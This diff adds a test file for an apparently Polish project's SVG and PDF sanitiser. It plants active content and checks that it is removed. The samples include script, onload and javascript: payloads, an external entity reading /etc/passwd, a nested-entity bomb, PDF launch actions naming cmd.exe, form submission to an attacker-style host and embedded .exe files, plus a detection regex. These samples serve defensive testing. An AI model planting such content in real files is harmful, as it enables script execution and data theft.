@@ -1,0 +1,172 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { PDFArray, PDFDict, PDFDocument, PDFName, PDFString, type PDFRef } from 'pdf-lib';
+import { afterAll, describe, expect, it } from 'vitest';
+import { cleanFile } from '../../src/safety/clean.ts';
+import { stripActiveContent, strippedLine } from '../../src/safety/pdf.ts';
+import { sanitizeSvg } from '../../src/safety/svg.ts';
+
+const FIXTURE = resolve(import.meta.dirname, '../fixtures/basic/content');
+const work = mkdtempSync(join(tmpdir(), 'koop-sanitise-'));
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+const SVG = (inner: string, attrs = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>${inner}<rect id="r" width="5" height="5" fill="#003399"/></svg>`;
+
+function clean(svg: string): { svg: string; removed: string[] } {
+  const r = sanitizeSvg(svg);
+  if (!r.ok) throw new Error(r.message);
+  return r;
+}
+
+describe('SVG files', () => {
+  it.each([
+    ['a script element', '<script>alert(1)</script>', '', ['element <script>'], /script|alert/],
+    ['an onload handler', '', ' onload="alert(1)"', ['atrybut „onload”'], /onload|alert/],
+    ['a foreignObject with HTML', '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://example.org"/></div></foreignObject>', '', ['element <foreignObject>'], /foreignObject|iframe/],
+    ['an image from another site', '<image href="https://example.org/x.png" width="1" height="1"/>', '', ['odwołanie do „https://example.org/x.png”'], /example\.org/],
+    ['an image from a local file', '<image xlink:href="file:///etc/passwd" width="1" height="1"/>', '', ['odwołanie do „file:///etc/passwd”'], /passwd/],
+    ['a use of another file', '<use href="inne.svg#logo"/>', '', ['odwołanie do „inne.svg#logo”'], /inne\.svg/],
+    ['a javascript: link', '<a href="javascript:alert(1)"><circle r="1"/></a>', '', ['odwołanie do „javascript:alert(1)”'], /javascript/],
+    ['a style importing another file', '<style>@import url(https://example.org/a.css); rect{fill:red}</style>', '', ['styl wczytujący inne pliki'], /@import|example/],
+    ['a style attribute loading a remote image', '<circle r="1" style="fill:url(https://example.org/a.png)"/>', '', ['styl wczytujący inne pliki'], /example/],
+    ['a CSS escape spelling url(', '<style>rect{background:\\75 rl(https://example.org/a.png)}</style>', '', ['styl wczytujący inne pliki'], /example/],
+    ['an animation that sets an event handler', '<set attributeName="onclick" to="alert(1)"/>', '', ['element <set>'], /onclick|alert/],
+  ])('loses %s', (_name, inner, attrs, removed, gone) => {
+    const r = clean(SVG(inner, attrs));
+    expect(r.removed).toEqual(removed);
+    expect(r.svg).not.toMatch(gone);
+    expect(r.svg).toContain('<rect id="r" width="5" height="5" fill="#003399"/>');
+  });
+
+  it('keeps references inside the file, embedded raster images and harmless styles', () => {
+    const inner =
+      '<defs><linearGradient id="g"><stop offset="0" stop-color="#fc0"/></linearGradient></defs><style>.a{fill:url(#g)}</style>' +
+      '<use href="#r"/><use xlink:href="#r"/><image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/><circle class="a" r="1" style="fill:url(#g)"/>';
+    const r = clean(SVG(inner));
+    expect(r.removed).toEqual([]);
+    for (const kept of ['<style>.a{fill:url(#g)}</style>', '<use href="#r"/>', '<use xlink:href="#r"/>', 'xlink:href="data:image/png;base64,iVBORw0KGgo="', 'style="fill:url(#g)"']) {
+      expect(r.svg).toContain(kept);
+    }
+  });
+
+  it('leaves the project’s logo strip unchanged in what it shows', () => {
+    const r = clean(readFileSync(join(FIXTURE, 'pliki/logotypy/fundusze-europejskie-power.svg'), 'utf8'));
+    expect(r.removed).toEqual([]);
+  });
+
+  it('refuses an external entity instead of reading the file it names', () => {
+    const r = sanitizeSvg('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>');
+    expect(r).toEqual({ ok: false, message: 'nie jest poprawnym plikiem SVG (błąd składni XML); wyeksportuj go ponownie z programu graficznego' });
+  });
+
+  it('does not expand nested entities (no „billion laughs”)', () => {
+    const ents = ['<!ENTITY a0 "xxxxxxxxxx">', ...Array.from({ length: 8 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`)];
+    const r = sanitizeSvg(`<!DOCTYPE svg [${ents.join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a8;</text></svg>`);
+    expect(r.ok && r.svg.length).toBeLessThan(1000);
+  });
+
+  it('refuses a file that is not an SVG', () => {
+    expect(sanitizeSvg('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>')).toEqual({
+      ok: false,
+      message: 'nie jest plikiem SVG (brak elementu <svg>); wyeksportuj go ponownie z programu graficznego',
+    });
+  });
+});
+
+type Plant = (doc: PDFDocument, page: PDFDict) => void | Promise<void>;
+
+const action = (doc: PDFDocument, fields: Record<string, unknown>): PDFRef => doc.context.register(doc.context.obj(fields as never));
+const addAnnot = (doc: PDFDocument, page: PDFDict, fields: Record<string, unknown>) => {
+  let annots = page.lookupMaybe(PDFName.of('Annots'), PDFArray);
+  if (!annots) page.set(PDFName.of('Annots'), (annots = doc.context.obj([])));
+  annots.push(doc.context.register(doc.context.obj({ Type: 'Annot', Rect: [0, 0, 10, 10], ...fields } as never)));
+};
+const js = (code: string) => PDFString.of(code);
+
+/** Each kind of active content, planted with pdf-lib, and the label the build log gives it. */
+const KINDS: [string, Plant, string[]][] = [
+  ['JavaScript run on opening', (doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') })), ['akcja przy otwarciu dokumentu', 'skrypty JavaScript']],
+  ['document-level JavaScript', (doc) => doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: { Names: [js('x'), action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') })] } } as never)), ['skrypty JavaScript']],
+  ['a page-open action', (doc, page) => page.set(PDFName.of('AA'), doc.context.obj({ O: action(doc, { S: 'JavaScript', JS: js('app.alert("zlo")') }) } as never)), ['akcje uruchamiane przy otwarciu strony lub użyciu pola formularza', 'skrypty JavaScript']],
+  ['a launch action', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'Launch', F: js('cmd.exe') } }), ['polecenia uruchomienia programu']],
+  ['a submit-form action', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Btn', A: { S: 'SubmitForm', F: { FS: 'URL', F: js('https://zlo.example/zbieraj') } } }), ['wysyłanie formularza na zewnętrzny adres']],
+  ['an import-data action', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Btn', A: { S: 'ImportData', F: js('dane.fdf') } }), ['import danych z innych plików']],
+  ['a link to another file', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'GoToR', F: js('inny.pdf'), D: [0, 'Fit'] } }), ['odnośniki otwierające inne pliki']],
+  ['a javascript: address', (doc, page) => addAnnot(doc, page, { Subtype: 'Link', A: { S: 'URI', URI: js('javascript:alert(1)') } }), ['odnośniki o niedozwolonym adresie']],
+  ['a field calculation script', (doc, page) => addAnnot(doc, page, { Subtype: 'Widget', FT: 'Tx', T: js('pole'), AA: { K: { S: 'JavaScript', JS: js('event.value="zlo"') } } }), ['akcje uruchamiane przy otwarciu strony lub użyciu pola formularza']],
+  ['an embedded file', async (doc) => doc.attach(Buffer.from('MZ program-zlo'), 'program.exe', { mimeType: 'application/x-msdownload' }), ['osadzone pliki']],
+  ['a file attachment annotation', (doc, page) => addAnnot(doc, page, { Subtype: 'FileAttachment', FS: { Type: 'Filespec', F: js('a.exe'), EF: { F: doc.context.register(doc.context.flateStream('MZ program-zlo', { Type: 'EmbeddedFile' })) } } }), ['osadzone pliki']],
+  ['rich media', (doc, page) => addAnnot(doc, page, { Subtype: 'RichMedia', RichMediaContent: { Assets: {} } }), ['multimedia (RichMedia, 3D, filmy, dźwięki)']],
+  ['an XFA form', (doc) => doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: doc.context.register(doc.context.flateStream('<xdp:xdp>zlo-xfa</xdp:xdp>')) } as never)), ['formularz XFA']],
+  ['a bookmark running JavaScript', (doc) => {
+    const outlines = doc.context.obj({ Type: 'Outlines' } as never) as PDFDict;
+    const outlinesRef = doc.context.register(outlines);
+    const item = doc.context.register(doc.context.obj({ Title: js('Zakładka'), Parent: outlinesRef, A: { S: 'JavaScript', JS: js('app.alert("zlo")') } } as never));
+    outlines.set(PDFName.of('First'), item);
+    outlines.set(PDFName.of('Last'), item);
+    doc.catalog.set(PDFName.of('Outlines'), outlinesRef);
+  }, ['skrypty JavaScript']],
+];
+
+/** A one-page PDF with a harmless web link, plus what `plant` adds. */
+async function plantedPdf(plant: Plant): Promise<PDFDocument> {
+  const doc = await PDFDocument.create();
+  const page = doc.addPage([200, 200]);
+  page.drawText('Formularz');
+  addAnnot(doc, page.node, { Subtype: 'Link', A: { S: 'URI', URI: js('https://example.org/regulamin') } });
+  await plant(doc, page.node);
+  return PDFDocument.load(await doc.save({ useObjectStreams: false }));
+}
+
+/** The saved PDF as qpdf writes it uncompressed, so that its objects can be searched. */
+function qdf(bytes: Uint8Array, name: string): string {
+  const file = join(work, `${name}.pdf`);
+  writeFileSync(file, bytes);
+  // pdf-lib keeps the trailer's object count after objects are deleted; qpdf warns about it and repairs it.
+  execFileSync('qpdf', ['--warning-exit-0', '--qdf', '--object-streams=disable', file, `${file}.qdf`], { stdio: 'ignore' });
+  return readFileSync(`${file}.qdf`, 'latin1');
+}
+
+const ACTIVE = /\/JavaScript|\/JS\b|\/Launch|\/SubmitForm|\/ImportData|\/GoToR|\/EmbeddedFile|\/RichMedia|\/XFA|\/OpenAction|\/AA\b|zlo|program\.exe|javascript:/;
+
+describe('attached PDF files', () => {
+  it.each(KINDS)('lose %s, and the build log says so', async (name, plant, removed) => {
+    const doc = await plantedPdf(plant);
+    expect(qdf(await doc.save({ useObjectStreams: false }), `${name}-before`)).toMatch(ACTIVE);
+    expect(stripActiveContent(doc)).toEqual(removed);
+    const after = qdf(await doc.save({ useObjectStreams: false }), name);
+    expect(after).not.toMatch(ACTIVE);
+    expect(after).toContain('(https://example.org/regulamin)');
+    expect(doc.getPageCount()).toBe(1);
+  });
+
+  it('lose everything at once, and keep their web links and pages', async () => {
+    const doc = await plantedPdf(async (d, page) => {
+      for (const [, plant] of KINDS) await plant(d, page);
+    });
+    expect(strippedLine('content/pliki/zlo.pdf', stripActiveContent(doc))).toBe(
+      'content/pliki/zlo.pdf: usunięto aktywną zawartość – akcja przy otwarciu dokumentu, akcje uruchamiane przy otwarciu strony lub użyciu pola formularza, formularz XFA, import danych z innych plików, multimedia (RichMedia, 3D, filmy, dźwięki), odnośniki o niedozwolonym adresie, odnośniki otwierające inne pliki, osadzone pliki, polecenia uruchomienia programu, skrypty JavaScript, wysyłanie formularza na zewnętrzny adres; serwis i pakiety PDF zawierają wersję bez niej',
+    );
+    const after = qdf(await doc.save({ useObjectStreams: false }), 'all');
+    expect(after).not.toMatch(ACTIVE);
+    expect(after).toContain('(https://example.org/regulamin)');
+  });
+
+  it('are published byte for byte when they hold no active content', async () => {
+    const file = join(FIXTURE, 'pliki', 'formularz-zewnetrzny.pdf');
+    const clean = await cleanFile(file);
+    expect(clean.removed).toEqual([]);
+    expect(Buffer.from(clean.bytes).equals(readFileSync(file))).toBe(true);
+  });
+
+  it('are published without their active content', async () => {
+    const file = join(work, 'zlo.pdf');
+    writeFileSync(file, await (await plantedPdf(KINDS[0]![1])).save());
+    const clean = await cleanFile(file);
+    expect(clean.removed).toEqual(['akcja przy otwarciu dokumentu', 'skrypty JavaScript']);
+    expect(qdf(clean.bytes, 'published')).not.toMatch(ACTIVE);
+  });
+});
